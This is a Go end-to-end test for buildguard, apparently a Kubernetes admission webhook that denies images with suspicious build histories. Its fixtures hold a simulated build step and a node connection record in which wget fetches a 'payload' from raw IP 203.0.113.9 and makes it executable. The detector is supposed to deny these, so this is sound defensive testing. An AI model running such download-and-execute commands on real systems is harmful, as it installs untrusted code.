package e2e

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"buildguard.dev/buildguard/internal/testregistry"
)

type env struct {
	t    *testing.T
	ctx  context.Context
	cp   *ControlPlane
	reg  *Registry
	bg   *Buildguard
	imgs map[string]string
}

// startEnv starts a control plane and a registry in dir for t, stopped
// when t ends; their logs are shown when t fails.
func startEnv(t *testing.T, ctx context.Context, dir string) *env {
	t.Helper()
	cp, err := StartControlPlane(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cp.Stop)
	t.Cleanup(func() {
		if t.Failed() {
			for _, p := range cp.Processes() {
				t.Logf("--- %s log tail:\n%s", p.Name, p.Tail(3000))
			}
		}
	})
	reg, err := StartRegistry(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { reg.Close() })
	return &env{t: t, ctx: ctx, cp: cp, reg: reg, imgs: map[string]string{}}
}

// applyPolicy applies a ClusterBuildPolicy once buildguard's CRDs are
// established.
func (e *env) applyPolicy(yaml string) {
	e.t.Helper()
	e.eventually(30*time.Second, "CRDs established", func() error {
		_, err := e.kubectl("", "wait", "--for=condition=Established", "crd/clusterbuildpolicies.buildguard.dev", "crd/buildpolicyexceptions.buildguard.dev", "--timeout=5s")
		return err
	})
	e.mustKubectl(yaml, "apply", "-f", "-")
}

// waitReady waits until buildguard has injected its CA into the webhook
// configuration and accepted the ClusterBuildPolicy "default", and creates
// the namespaces, waiting for their default service accounts. It returns
// the injected CA bundle, base64 as the configuration holds it.
func (e *env) waitReady(namespaces ...string) (caBundle string) {
	e.t.Helper()
	e.eventually(30*time.Second, "buildguard injects its CA into the webhook configuration", func() error {
		out, err := e.kubectl("", "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
		if err != nil || len(out) < 100 {
			return fmt.Errorf("caBundle %q: %v", out, err)
		}
		caBundle = out
		return nil
	})
	e.eventually(30*time.Second, "policy accepted", func() error {
		out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", "jsonpath={.status.conditions[0].status}")
		if err != nil || out != "True" {
			return fmt.Errorf("Accepted = %q (%v)", out, err)
		}
		return nil
	})
	for _, ns := range namespaces {
		e.mustKubectl("", "create", "namespace", ns)
		e.eventually(30*time.Second, "default service account in "+ns, func() error {
			_, err := e.kubectl("", "get", "serviceaccount", "default", "-n", ns)
			return err
		})
	}
	return caBundle
}

func (e *env) kubectl(stdin string, args ...string) (string, error) {
	var r *strings.Reader
	if stdin != "" {
		r = strings.NewReader(stdin)
	}
	if r == nil {
		return e.cp.Kubectl(e.ctx, nil, args...)
	}
	return e.cp.Kubectl(e.ctx, r, args...)
}

func (e *env) mustKubectl(stdin string, args ...string) string {
	e.t.Helper()
	out, err := e.kubectl(stdin, args...)
	if err != nil {
		e.t.Fatal(err)
	}
	return out
}

// eventually retries f until it returns nil or the timeout passes.
func (e *env) eventually(timeout time.Duration, what string, f func() error) {
	e.t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		err := f()
		if err == nil {
			return
		}
		if time.Now().After(deadline) {
			e.t.Fatalf("%s: not within %s: %v", what, timeout, err)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

func podYAML(ns, name, image string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Pod
metadata: {name: %s, namespace: %s}
spec:
  containers:
  - {name: app, image: %s, imagePullPolicy: IfNotPresent}
`, name, ns, image)
}

func TestEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), 15*time.Minute)
	defer cancel()
	dir := t.TempDir()
	e := startEnv(t, ctx, dir)
	cp, reg := e.cp, e.reg

	// Images: one built by a pipeline days ago, one built seconds ago, one
	// whose build downloaded from a raw IP.
	for name, spec := range map[string]testregistry.Image{
		"clean:1": {Created: time.Now().Add(-72 * time.Hour), Steps: []string{"RUN /bin/sh -c apt-get update && apt-get install -y ca-certificates # buildkit"}},
		"fresh:1": {Created: time.Now(), Steps: []string{"COPY app /app # buildkit"}},
		"rawip:1": {Created: time.Now().Add(-48 * time.Hour), Steps: []string{"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit"}},
	} {
		img, err := testregistry.MakeImage(spec)
		if err != nil {
			t.Fatal(err)
		}
		d, err := reg.Push("e2e/"+name, img)
		if err != nil {
			t.Fatal(err)
		}
		e.imgs[name] = reg.Host + "/e2e/" + name
		t.Logf("pushed %s (%s)", e.imgs[name], d)
	}

	root, err := Root()
	if err != nil {
		t.Fatal(err)
	}
	// CRDs and manifests, with kubectl as an admin would.
	e.mustKubectl("", "apply", "-f", filepath.Join(root, "manifests", "crd"))
	e.mustKubectl("", "create", "namespace", "buildguard-system")
	// A dry run creates no namespace: the node agent's must exist for its
	// objects to be dry-run.
	e.mustKubectl("", "create", "namespace", "buildguard-node-agent")
	t.Run("manifests pass a server-side dry run", func(t *testing.T) {
		certManagerCRDs, err := certManagerCRDDir(ctx, root)
		if err != nil {
			t.Fatal(err)
		}
		e.mustKubectl("", "apply", "--server-side", "-f", certManagerCRDs)
		e.eventually(30*time.Second, "cert-manager CRDs established", func() error {
			_, err := e.kubectl("", "wait", "--for=condition=Established", "crd/issuers.cert-manager.io", "crd/certificates.cert-manager.io", "--timeout=5s")
			return err
		})
		for _, k := range []string{"manifests", "manifests/overlays/self-managed-ca"} {
			if out, err := e.kubectl("", "apply", "--dry-run=server", "-k", filepath.Join(root, k)); err != nil {
				t.Errorf("kubectl apply --dry-run=server -k %s: %v\n%s", k, err, out)
			}
		}
	})
	e.applyPolicy(PolicyYAML(reg.Host, "10m"))
	// OpenReports' CRDs, as Kyverno or Policy Reporter install them: the
	// periodic scan writes its reports there.
	e.mustKubectl("", "apply", "-f", filepath.Join(root, "policyreport", "testdata", "crds", "openreports.io_install.yaml"))

	bin, err := BuildBuildguard(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile, "--store-sqlite="+filepath.Join(dir, "evidence.db"),
		"--audit-interval=1m", "--audit-lease=buildguard-system/buildguard-audit")
	if err != nil {
		t.Fatal(err)
	}
	e.bg = bg
	t.Cleanup(bg.Stop)
	t.Cleanup(func() {
		if t.Failed() && bg.Proc != nil {
			t.Logf("--- buildguard log tail:\n%s", bg.Proc.Tail(5000))
		}
	})
	// Workloads that were running before buildguard judged anything.
	e.createPreexisting()
	e.mustKubectl(WebhookYAML(bg.URL), "apply", "-f", "-")
	e.waitReady("shop", "audited")
	e.mustKubectl("", "label", "namespace", "audited", "buildguard.dev/mode=audit")

	t.Run("clean Deployment is admitted and its ReplicaSet creates pods", func(t *testing.T) {
		e.mustKubectl("", "create", "deployment", "shop", "-n", "shop", "--image="+e.imgs["clean:1"], "--replicas=2")
		e.eventually(60*time.Second, "two pods", func() error {
			out, err := e.kubectl("", "get", "pods", "-n", "shop", "-l", "app=shop", "-o", "name")
			if err != nil {
				return err
			}
			if n := len(strings.Fields(out)); n != 2 {
				return fmt.Errorf("%d pods: %q", n, out)
			}
			return nil
		})
	})

	t.Run("audit scan finds what ran before buildguard, each workload once", e.testAudit)
	t.Run("replicas claim each periodic audit scan once", e.testAuditClaim)

	t.Run("tags are pinned to the judged digest and the pods annotated", func(t *testing.T) {
		img, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-96 * time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		judged, err := reg.Push("e2e/pinned:1", img)
		if err != nil {
			t.Fatal(err)
		}
		e.mustKubectl("", "create", "deployment", "pinned", "-n", "shop", "--image="+reg.Host+"/e2e/pinned:1", "--replicas=1")
		want := reg.Host + "/e2e/pinned:1@" + judged.String()
		podImages := func() (string, error) {
			return e.kubectl("", "get", "pods", "-n", "shop", "-l", "app=pinned", "-o", `jsonpath={range .items[*]}{.spec.containers[0].image} {.metadata.annotations.buildguard\.dev/verdict}{"\n"}{end}`)
		}
		e.eventually(60*time.Second, "a pinned, annotated pod", func() error {
			out, err := podImages()
			if err != nil || strings.TrimSpace(out) != want+" allow" {
				return fmt.Errorf("pods: %q (%v), want %q", out, err, want+" allow")
			}
			return nil
		})

		// The tag moves after admission: what the pods run does not.
		moved, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-96 * time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := reg.Push("e2e/pinned:1", moved); err != nil {
			t.Fatal(err)
		}
		before := reg.Requests()
		// A second ReplicaSet of the same Deployment: its pinned images are
		// in buildguard's cache, so the registry is not asked again.
		e.mustKubectl("", "rollout", "restart", "deployment/pinned", "-n", "shop")
		e.eventually(60*time.Second, "a second ReplicaSet's pod", func() error {
			out, err := e.kubectl("", "get", "replicasets", "-n", "shop", "-l", "app=pinned", "-o", "name")
			if err != nil || len(strings.Fields(out)) != 2 {
				return fmt.Errorf("replicasets %q (%v)", out, err)
			}
			out, err = podImages()
			if err != nil || len(strings.Fields(out)) < 4 {
				return fmt.Errorf("pods: %q (%v)", out, err)
			}
			return nil
		})
		out, _ := podImages()
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			if !strings.HasPrefix(line, want+" ") {
				t.Errorf("pod runs %q after the tag moved, want %s", line, want)
			}
		}
		if n := reg.Requests() - before; n != 0 {
			t.Errorf("the second ReplicaSet cost %d registry requests, want 0", n)
		}
	})

	t.Run("pod with an image created seconds ago is denied", func(t *testing.T) {
		out, err := e.kubectl(podYAML("shop", "fresh", e.imgs["fresh:1"]), "apply", "-f", "-")
		if err == nil {
			t.Fatalf("pod admitted: %s", out)
		}
		for _, want := range []string{`admission webhook "validate.buildguard.dev" denied the request`, "[fresh-image]", "before admission", "exception"} {
			if !strings.Contains(out, want) {
				t.Errorf("denial %q does not contain %q", out, want)
			}
		}
	})

	t.Run("CronJob whose build downloaded from a raw IP is denied", func(t *testing.T) {
		out, err := e.kubectl("", "create", "cronjob", "nightly", "-n", "shop", "--image="+e.imgs["rawip:1"], "--schedule=0 3 * * *")
		if err == nil {
			t.Fatalf("cronjob admitted: %s", out)
		}
		for _, want := range []string{"[suspicious-build-step]", "raw IP 203.0.113.9", "CronJob"} {
			if !strings.Contains(out, want) {
				t.Errorf("denial %q does not contain %q", out, want)
			}
		}
	})

	t.Run("audit namespace admits with a warning and an audit annotation", func(t *testing.T) {
		out, err := e.kubectl(podYAML("audited", "fresh", e.imgs["fresh:1"]), "apply", "-f", "-")
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out, "Warning: buildguard would deny (audit mode): app: [fresh-image] created") {
			t.Errorf("kubectl output %q has no buildguard warning", out)
		}
		e.eventually(20*time.Second, "audit log annotation", func() error {
			return findAuditAnnotation(cp.AuditLog, "audited", "fresh", "validate.buildguard.dev/verdict", "would-deny")
		})
	})

	t.Run("exception admits the denied image until it expires", func(t *testing.T) {
		expires := time.Now().Add(25 * time.Second).UTC().Format(time.RFC3339)
		e.mustKubectl(fmt.Sprintf(`apiVersion: buildguard.dev/v1alpha1
kind: BuildPolicyException
metadata: {name: hotfix, namespace: shop}
spec:
  images: ["%s/e2e/fresh"]
  reason: "INC-1234 hotfix"
  expires: "%s"
  approvedBy: "platform-team"
`, reg.Host, expires), "apply", "-f", "-")
		e.eventually(30*time.Second, "pod admitted under the exception", func() error {
			out, err := e.kubectl(podYAML("shop", "hotfix", e.imgs["fresh:1"]), "apply", "-f", "-")
			if err != nil {
				return err
			}
			if !strings.Contains(out, "admitted by exception shop/hotfix") {
				return fmt.Errorf("no exception warning in %q", out)
			}
			return nil
		})
		until, _ := time.Parse(time.RFC3339, expires)
		time.Sleep(time.Until(until) + time.Second)
		out, err := e.kubectl(podYAML("shop", "hotfix-2", e.imgs["fresh:1"]), "apply", "-f", "-")
		if err == nil || !strings.Contains(out, "[fresh-image]") {
			t.Errorf("after expiry: %v %s, want a fresh-image denial", err, out)
		}
	})

	t.Run("policy edited with kubectl applies without a restart", func(t *testing.T) {
		pid := bg.Proc.cmd.Process.Pid
		e.mustKubectl(PolicyYAML(reg.Host, "1s"), "apply", "-f", "-")
		e.eventually(30*time.Second, "fresh image admitted once minAge is 1s", func() error {
			_, err := e.kubectl(podYAML("shop", "fresh-now-ok", e.imgs["fresh:1"]), "apply", "-f", "-")
			return err
		})
		if bg.Proc.cmd.Process.Pid != pid || bg.Proc.Exited() {
			t.Error("buildguard restarted")
		}
		// An invalid edit is rejected by the CRD schema before buildguard
		// sees it.
		if out, err := e.kubectl("", "patch", "clusterbuildpolicy", "default", "--type=merge", "-p", `{"spec":{"mode":"strict"}}`); err == nil {
			t.Errorf("invalid mode accepted: %s", out)
		}
		// One the schema cannot catch is reported in the status, and the
		// generation before it stays in force.
		e.mustKubectl("", "patch", "clusterbuildpolicy", "default", "--type=merge", "-p", `{"spec":{"trustedSources":["10.0.0.0/33"]}}`)
		e.eventually(30*time.Second, "invalid policy reported", func() error {
			out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", `jsonpath={.status.conditions[0].reason}: {.status.conditions[0].message}`)
			if err != nil || !strings.HasPrefix(out, "Invalid: trustedSources") || !strings.Contains(out, "stays in force") {
				return fmt.Errorf("condition %q (%v)", out, err)
			}
			return nil
		})
		if _, err := e.kubectl(podYAML("shop", "fresh-still-ok", e.imgs["fresh:1"]), "apply", "-f", "-"); err != nil {
			t.Errorf("the last accepted generation is not in force: %v", err)
		}
		e.mustKubectl(PolicyYAML(reg.Host, "10m"), "apply", "-f", "-")
		e.eventually(30*time.Second, "policy accepted again", func() error {
			out, err := e.kubectl("", "get", "clusterbuildpolicy", "default", "-o", "jsonpath={.status.conditions[0].status}")
			if err != nil || out != "True" {
				return fmt.Errorf("Accepted = %q (%v)", out, err)
			}
			return nil
		})
	})

	t.Run("node reports: a build on a worker that talked to a raw IP is denied, and found late", func(t *testing.T) {
		e.mustKubectl("", "create", "serviceaccount", "buildguard-node-agent", "-n", "buildguard-node-agent")
		// Each node's agent reports with a token bound to its pod on that
		// node: buildguard takes the node from the token.
		tokens := map[string]string{}
		tokenOf := func(node string) string {
			if tokens[node] == "" {
				e.mustKubectl(AgentPodYAML(node), "apply", "-f", "-")
				tokens[node] = strings.TrimSpace(e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-node-agent", "--audience=buildguard",
					"--bound-object-kind=Pod", "--bound-object-name=node-agent-"+node))
			}
			return tokens[node]
		}
		caB64 := e.mustKubectl("", "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
		ca, err := base64.StdEncoding.DecodeString(caB64)
		if err != nil {
			t.Fatal(err)
		}
		pool := x509.NewCertPool()
		pool.AppendCertsFromPEM(ca)
		client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
		built := time.Now().Add(-time.Hour).UTC()
		post := func(node, items, want string) {
			t.Helper()
			body := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":%q,"sensor":"ebpf",%s}`, node, items)
			req, _ := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimSuffix(bg.URL, "/validate")+"/v1/node-reports", strings.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+tokenOf(node))
			resp, err := client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), want) {
				t.Fatalf("POST /v1/node-reports = %d %s, want %s", resp.StatusCode, b, want)
			}
		}
		buildItem := func(cfg v1.Hash) string {
			return fmt.Sprintf(`"builds":[{"eventID":"build-%s","tool":"docker","imageID":%q,"started":%q,"finished":%q}]`,
				cfg.Hex[:12], cfg.String(), built.Format(time.RFC3339), built.Add(time.Minute).Format(time.RFC3339))
		}
		connItem := func(cfg v1.Hash) string {
			return fmt.Sprintf(`"connections":[{"eventID":"conn-%s","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]`,
				cfg.Hex[:12], built.Add(20*time.Second).Format(time.RFC3339))
		}
		report := func(cfg v1.Hash, node string) {
			t.Helper()
			post(node, buildItem(cfg)+","+connItem(cfg), `"builds":1`)
		}
		push := func(repo string) v1.Hash {
			img, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-48 * time.Hour)})
			if err != nil {
				t.Fatal(err)
			}
			if _, err := reg.Push(repo, img); err != nil {
				t.Fatal(err)
			}
			cfg, err := img.ConfigName()
			if err != nil {
				t.Fatal(err)
			}
			return cfg
		}

		// Admitted first, reported afterwards: detection goes on.
		late := push("e2e/late:1")
		e.mustKubectl("", "create", "deployment", "late", "-n", "shop", "--image="+reg.Host+"/e2e/late:1")
		report(late, "worker-3")
		e.eventually(60*time.Second, "a late-evidence Event on the Deployment", func() error {
			out, err := e.kubectl("", "get", "events", "-n", "shop", "--field-selector=involvedObject.name=late,reason=BuildguardLateEvidence", "-o", "jsonpath={.items[*].message}")
			if err != nil || !strings.Contains(out, "untrusted-egress") {
				return fmt.Errorf("events %q (%v)", out, err)
			}
			return nil
		})

		// Built on an approved node and admitted; the node's connection
		// during the build is reported afterwards: judged like a late
		// build.
		lateConn := push("e2e/lateconn:1")
		post("ci-runner-1", buildItem(lateConn), `"builds":1`)
		e.mustKubectl("", "create", "deployment", "lateconn", "-n", "shop", "--image="+reg.Host+"/e2e/lateconn:1")
		post("ci-runner-1", connItem(lateConn), `"connections":1`)
		e.eventually(60*time.Second, "a late-evidence Event on the Deployment for a late connection", func() error {
			out, err := e.kubectl("", "get", "events", "-n", "shop", "--field-selector=involvedObject.name=lateconn,reason=BuildguardLateEvidence", "-o", "jsonpath={.items[*].message}")
			if err != nil || !strings.Contains(out, "untrusted-egress") || strings.Contains(out, "host-built") {
				return fmt.Errorf("events %q (%v)", out, err)
			}
			return nil
		})

		// Reported first: admission is denied, with the evidence.
		nodeBuilt := push("e2e/nodebuilt:1")
		report(nodeBuilt, "worker-3")
		out, err := e.kubectl("", "create", "deployment", "nodebuilt", "-n", "shop", "--image="+reg.Host+"/e2e/nodebuilt:1")
		if err == nil {
			t.Fatalf("admitted: %s", out)
		}
		for _, want := range []string{"[host-built] node worker-3 built this image", "[untrusted-egress]", "wget (pid 4242)", "203.0.113.9:8080"} {
			if !strings.Contains(out, want) {
				t.Errorf("denial %q does not contain %q", out, want)
			}
		}
	})

	t.Run("the periodic scan writes OpenReports", e.testPolicyReports)
	t.Run("every metric of the dashboard and the alert rules is served", e.testMonitoringMetrics)

	t.Run("buildguard unreachable: failurePolicy Fail applies, kube-system unaffected", func(t *testing.T) {
		bg.Stop()
		out, err := e.kubectl(podYAML("shop", "while-down", e.imgs["clean:1"]), "apply", "-f", "-")
		if err == nil || !strings.Contains(out, "failed calling webhook") {
			t.Errorf("with buildguard down: %v %s, want the API server to fail closed", err, out)
		}
		if out, err := e.kubectl(podYAML("kube-system", "system-pod", e.imgs["fresh:1"]), "apply", "-f", "-"); err != nil {
			t.Errorf("kube-system pod refused while buildguard is down: %v %s", err, out)
		}
		if err := bg.Start(ctx); err != nil {
			t.Fatal(err)
		}
		e.eventually(30*time.Second, "admission works again", func() error {
			_, err := e.kubectl(podYAML("shop", "after-restart", e.imgs["clean:1"]), "apply", "-f", "-")
			return err
		})
	})
}

// findAuditAnnotation looks for an audit event of a pod create with the
// annotation key=value.
func findAuditAnnotation(path, ns, name, key, value string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		var ev struct {
			Verb      string `json:"verb"`
			ObjectRef struct {
				Resource, Namespace, Name string
			} `json:"objectRef"`
			Annotations map[string]string `json:"annotations"`
		}
		if json.Unmarshal(sc.Bytes(), &ev) != nil {
			continue
		}
		if ev.ObjectRef.Resource == "pods" && ev.ObjectRef.Namespace == ns && ev.Annotations[key] == value &&
			(ev.ObjectRef.Name == name || ev.ObjectRef.Name == "") {
			return nil
		}
	}
	return fmt.Errorf("no audit event for pods %s/%s with %s=%s", ns, name, key, value)
}

// certManagerCRDDir is where the pinned cert-manager module keeps its
// CRDs, so the manifests' Issuers and Certificates can be dry-run.
func certManagerCRDDir(ctx context.Context, root string) (string, error) {
	out, err := goList(ctx, root, "github.com/cert-manager/cert-manager")
	if err != nil {
		return "", err
	}
	return filepath.Join(out, "deploy", "crds"), nil
}
